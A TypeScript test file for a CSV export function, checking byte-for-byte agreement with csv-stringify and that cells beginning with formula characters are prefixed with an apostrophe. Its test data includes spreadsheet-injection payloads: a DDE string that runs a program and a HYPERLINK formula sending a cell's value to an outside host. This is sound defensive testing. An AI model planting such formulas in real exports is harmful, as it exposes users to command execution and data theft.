import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { RandomValues } from '../testing/random-values.ts';
import { asCsv, withoutApostrophes } from './csv.ts';

const COLUMNS = ['id', 'name', 'count'] as const;
/** Characters that need quotes or begin a formula, and characters that do neither. */
const PARTS = [...'=+-@＝＋－＠;,"\'\t\r\n ab名😀', '\r\n', '\0', '\\', '\ud800', '\u2028', 'é'];
const NUMBERS = [0, 1, -1, 33.3, 1e21, Number.MAX_SAFE_INTEGER];
const FORMULA_WITHIN = /([;\t\r\n]"*)(?='*[=+\-@＝＋－＠])/g;
/** The library protects no formula that has an apostrophe already. */
const PROTECTED_FORMULA = /^(?='+[=+\-@\t\r＝＋－＠])/;

test('CSV has the same bytes as the library csv-stringify makes, for any texts and numbers, and the texts can be read again', async () => {
  const random = new RandomValues(15);
  const text = () => Array.from({ length: random.upTo(6) }, () => random.pick(PARTS)).join('');
  const record = () => ({ id: text(), name: text(), count: random.pick(NUMBERS) ?? 0 });
  const steps = Array.from({ length: 200 }, () => Array.from({ length: random.upTo(40) }, record));
  const csv = await csvOf(steps);
  assert.deepEqual(csv, Buffer.from(libraryCsvOf(steps.flat())));
  const options = { bom: true, columns: true, record_delimiter: '\r\n' } as const;
  const read: { id: string; name: string }[] = parse(csv, options);
  assert.deepEqual(
    read.map(({ id, name }) => [id, name].map(withoutApostrophes)),
    steps.flat().map(({ id, name }) => [id, name].map((text) => text.toWellFormed())),
  );
});

/** Characters that begin a formula, also as Chinese and Japanese keyboards write them. */
const STARTS = [...'=+-@\t\r＝＋－＠'];
const RESTS = ['', '1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://elsewhere.example/?"&A1,"x")'];
const PLAIN = ['ana', 'a=b', '"', ',', ';1+1', 'a; "b"', 'a\r\nb', ' =1', '名前', '1e9'];

test('each formula gets an apostrophe, and each other text is read back unchanged', async () => {
  const formulas = STARTS.flatMap((start) => RESTS.map((rest) => start + rest));
  const records = [...formulas, ...PLAIN].map((id) => ({ id, name: 'a', count: 1 }));
  const csv = String(await csvOf([records]));
  const read = parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as {
    id: string;
  }[];
  assert.deepEqual(
    read.map(({ id }) => id),
    [...formulas.map((formula) => `'${formula}`), ...PLAIN],
  );
});

test('CSV without records has a header', async () => {
  assert.equal(String(await csvOf([])), '\ufeff"id","name","count"\r\n');
  assert.equal(String(await csvOf([[]])), '\ufeff"id","name","count"\r\n');
});

type Steps = { id: string; name: string; count: number }[][];

async function csvOf(steps: Steps): Promise<Buffer> {
  async function* inSteps() {
    yield* steps;
  }
  const texts = await Array.fromAsync(asCsv(COLUMNS, inSteps()));
  assert.equal(texts.length, 1 + steps.length);
  return Buffer.concat(texts.map((text) => Buffer.from(text)));
}

function libraryCsvOf(records: Steps[number]): string {
  return stringify(records, {
    bom: true,
    header: true,
    columns: [...COLUMNS],
    record_delimiter: 'windows',
    quoted_string: true,
    escape_formulas: true,
    cast: {
      string: (text) => text.replace(FORMULA_WITHIN, "$1'").replace(PROTECTED_FORMULA, "'"),
    },
  });
}
